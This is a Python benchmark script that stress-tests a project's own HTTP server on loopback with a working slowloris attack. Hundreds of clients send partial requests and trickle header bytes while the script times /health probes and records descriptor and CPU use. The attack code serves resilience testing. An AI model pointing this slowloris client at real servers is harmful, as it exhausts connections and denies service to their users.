"""Slowloris against the server: is ``/health`` still quick, and what does the attack hold?

    python benchmarks/bench_abuse.py                                  # 300 connections, fd limit 256
    python benchmarks/bench_abuse.py --connections 1000 --seconds 30 --header-timeout 10
    cd /tmp && PYTHONPATH=/path/to/other/checkout python /path/to/bench_abuse.py   # another version

The server runs in its own process with ``RLIMIT_NOFILE`` lowered to ``--fd-limit``. A
second process plays ``--connections`` slowloris clients on loopback: each opens a
connection, sends a partial request (``GET /health HTTP/1.1`` and a ``Host`` header, no
blank line), then one more header byte every ``--byte-interval`` seconds, and reopens its
connection at its next tick when the server closed it, for ``--seconds``. Meanwhile this
process asks ``GET /health`` every ``--probe-interval`` seconds, each time on a new
connection, and times it (``time.monotonic`` around the httpx request; 2 s counts as a
failure).

Reported: /health latency (median, p99, max, failures, probes over 100 ms); the server's
open descriptors (the most seen, sampled every 10 ms); ``accept_errors``, asyncio's
"socket.accept() out of system resource" log lines (each time the descriptors run out it
logs up to ``backlog`` of them, then accepts nothing for a second); the server's CPU
(share of one core) and RSS before and after; the 1-minute load average at the start (the
machine may be shared); how many connections the attackers made and how long the server
let one live. Loopback only; nothing leaves the machine.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import asdict, dataclass, field
from typing import Any

import httpx
import numpy as np

LAUNCHER = """
import json, resource, sys
limit, port, settings = int(sys.argv[1]), int(sys.argv[2]), json.loads(sys.argv[3])
resource.setrlimit(resource.RLIMIT_NOFILE, (limit, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
from deeptone_async.server import ServerSettings, create_app, serve
serve(create_app(settings=ServerSettings(**settings)), port=port, log_level="error")
"""
PARTIAL = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n"  # no blank line: the headers never end
PROBE_TIMEOUT_S = 2.0


@dataclass
class Report:
    connections: int
    fd_limit: int
    seconds: float
    header_timeout_s: float | None
    probes: int = 0
    failures: int = 0
    health_median_ms: float = 0.0
    health_p99_ms: float = 0.0
    health_max_ms: float = 0.0
    over_100ms: int = 0
    server_fds_max: int = 0
    accept_errors: int = 0
    server_cpu: float = 0.0
    load_average: float = 0.0
    rss_before_mb: float = 0.0
    rss_after_mb: float = 0.0
    attacker_connects: int = 0
    connect_errors: int = 0
    closed_by_server: int = 0
    lifetime_median_s: float | None = None
    lifetime_max_s: float | None = None
    errors: list[str] = field(default_factory=list)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def open_fds(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return 0


def start_server(port: int, fd_limit: int, settings: dict[str, Any], log: Any) -> subprocess.Popen[bytes]:
    """The server in a subprocess under ``RLIMIT_NOFILE`` ``fd_limit``, its stderr into ``log``
    (a binary file), once ``/health`` answers; ``tests/test_server_abuse.py`` uses it too.

    Raises:
        RuntimeError: it did not answer within 30 s (with the end of its log).
    """
    cmd = [sys.executable, "-c", LAUNCHER, str(fd_limit), str(port), json.dumps(settings)]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=log)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and proc.poll() is None:
        try:
            httpx.get(f"http://127.0.0.1:{port}/health", timeout=1).raise_for_status()
            return proc
        except httpx.HTTPError:
            time.sleep(0.05)
    proc.kill()
    proc.wait()
    log.seek(0)
    raise RuntimeError(f"the server did not start: {log.read().decode(errors='replace')[-2000:]}")


def stop_server(proc: subprocess.Popen[bytes]) -> None:
    """Terminate the server, killing it if it does not stop within 10 s."""
    proc.terminate()
    try:
        proc.wait(timeout=10)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


def cpu_s(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")  # utime + stime


def sample_fds(pid: int, rep: Report, stop: threading.Event) -> None:
    while not stop.wait(0.01):
        rep.server_fds_max = max(rep.server_fds_max, open_fds(pid))


async def slowloris(port: int, byte_interval: float, stop: asyncio.Event, stats: dict[str, Any]) -> None:
    """One attacker: a partial request, a byte per tick, reopened at the next tick when closed."""
    loop = asyncio.get_running_loop()
    while not stop.is_set():
        sock = socket.socket()
        sock.setblocking(False)
        opened: float | None = None
        try:
            await loop.sock_connect(sock, ("127.0.0.1", port))
            opened = time.monotonic()
            stats["connects"] += 1
            await loop.sock_sendall(sock, PARTIAL)
            reader = asyncio.ensure_future(loop.sock_recv(sock, 4096))
            while not stop.is_set():
                done, _ = await asyncio.wait({reader}, timeout=byte_interval)
                if done:
                    data = b"" if reader.exception() else reader.result()
                    if not data or data.startswith(b"HTTP/1.1 408"):
                        stats["lifetimes"].append(time.monotonic() - opened)
                        break
                    reader = asyncio.ensure_future(loop.sock_recv(sock, 4096))
                await loop.sock_sendall(sock, b"X")
            reader.cancel()
        except OSError as exc:
            if opened is None:
                stats["connect_errors"] += 1
                if len(stats["errors"]) < 5:
                    stats["errors"].append(f"connect: {exc!r}")
            else:  # reset while sending: closed by the server
                stats["lifetimes"].append(time.monotonic() - opened)
        finally:
            sock.close()
        if not stop.is_set():
            await asyncio.sleep(byte_interval)


async def attackers(port: int, n: int, byte_interval: float, seconds: float) -> dict[str, Any]:
    """``n`` slowloris clients for ``seconds`` (run in a process of its own: ``--attacker``)."""
    stats: dict[str, Any] = {"connects": 0, "connect_errors": 0, "lifetimes": [], "errors": []}
    stop = asyncio.Event()
    tasks = [asyncio.create_task(slowloris(port, byte_interval, stop, stats)) for _ in range(n)]
    while stats["connects"] + stats["connect_errors"] < n:
        await asyncio.sleep(0.01)
    print("ready", flush=True)
    await asyncio.sleep(seconds)
    stop.set()
    await asyncio.gather(*tasks)
    return stats


async def probe(port: int, interval: float, seconds: float, rep: Report) -> list[float]:
    """``GET /health`` every ``interval`` s on a new connection; its latencies in ms."""
    latencies: list[float] = []
    limits = httpx.Limits(max_keepalive_connections=0)  # a new connection each time
    end = time.monotonic() + seconds
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", limits=limits) as http:
        while time.monotonic() < end:
            t0 = time.monotonic()
            try:
                r = await http.get("/health", timeout=PROBE_TIMEOUT_S)
                r.raise_for_status()
            except httpx.HTTPError as exc:
                rep.failures += 1
                if len(rep.errors) < 5:
                    rep.errors.append(repr(exc))
            latencies.append(1000 * (time.monotonic() - t0))
            await asyncio.sleep(max(0.0, interval - (time.monotonic() - t0)))
    return latencies


def attack(args: argparse.Namespace, port: int, pid: int, rep: Report) -> None:
    cmd = [sys.executable, __file__, "--attacker", str(port), "--connections", str(args.connections)]
    cmd += ["--byte-interval", str(args.byte_interval), "--seconds", str(args.seconds + 0.5)]
    with subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True) as attacker:
        assert attacker.stdout is not None
        if attacker.stdout.readline().strip() != "ready":
            raise RuntimeError("the attacker did not start")
        time.sleep(0.25)
        stop = threading.Event()
        sampler = threading.Thread(target=sample_fds, args=(pid, rep, stop))
        sampler.start()
        cpu0, t0 = cpu_s(pid), time.monotonic()
        try:
            lat = np.array(asyncio.run(probe(port, args.probe_interval, args.seconds, rep)))
        finally:
            stop.set()
            sampler.join()
        rep.server_cpu = (cpu_s(pid) - cpu0) / (time.monotonic() - t0)
        stats = json.loads(attacker.stdout.read())
    rep.probes = len(lat)
    if len(lat):
        rep.health_median_ms = float(np.median(lat))
        rep.health_p99_ms = float(np.percentile(lat, 99))
        rep.health_max_ms = float(lat.max())
        rep.over_100ms = int((lat > 100).sum())
    rep.attacker_connects = stats["connects"]
    rep.connect_errors = stats["connect_errors"]
    rep.errors += stats["errors"]
    lifetimes = stats["lifetimes"]
    rep.closed_by_server = len(lifetimes)
    if lifetimes:
        rep.lifetime_median_s = float(np.median(lifetimes))
        rep.lifetime_max_s = float(max(lifetimes))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--connections", type=int, default=300, help="slowloris connections kept open")
    parser.add_argument("--fd-limit", type=int, default=256, help="the server's RLIMIT_NOFILE")
    parser.add_argument("--seconds", type=float, default=20.0, help="length of the attack")
    parser.add_argument("--byte-interval", type=float, default=1.0, help="seconds between an attacker's bytes")
    parser.add_argument("--probe-interval", type=float, default=0.1, help="seconds between /health probes")
    parser.add_argument("--header-timeout", type=float, default=None, help="the server's header_timeout_s")
    parser.add_argument("--json", default=None, help="also write the report here")
    parser.add_argument("--attacker", type=int, default=None, help=argparse.SUPPRESS)  # the attackers' process
    args = parser.parse_args()
    if args.attacker is not None:
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        if soft < args.connections + 64:  # a descriptor per attacker
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, args.connections + 256), hard))
        stats = asyncio.run(attackers(args.attacker, args.connections, args.byte_interval, args.seconds))
        print(json.dumps(stats), flush=True)
        return 0
    settings = {} if args.header_timeout is None else {"header_timeout_s": args.header_timeout}
    rep = Report(args.connections, args.fd_limit, args.seconds, args.header_timeout)
    rep.load_average = os.getloadavg()[0]
    port = free_port()
    with tempfile.TemporaryFile() as log:
        proc = start_server(port, args.fd_limit, settings, log)
        try:
            rep.rss_before_mb = rss_mb(proc.pid)
            attack(args, port, proc.pid, rep)
            time.sleep(0.5)
            rep.rss_after_mb = rss_mb(proc.pid)
        finally:
            stop_server(proc)
        log.seek(0)
        rep.accept_errors = log.read().decode(errors="replace").count("out of system resource")
    doc = asdict(rep)
    print(json.dumps(doc, indent=2))
    if args.json:
        with open(args.json, "w") as f:
            json.dump(doc, f, indent=2)
    return 0 if rep.failures == 0 and rep.over_100ms == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
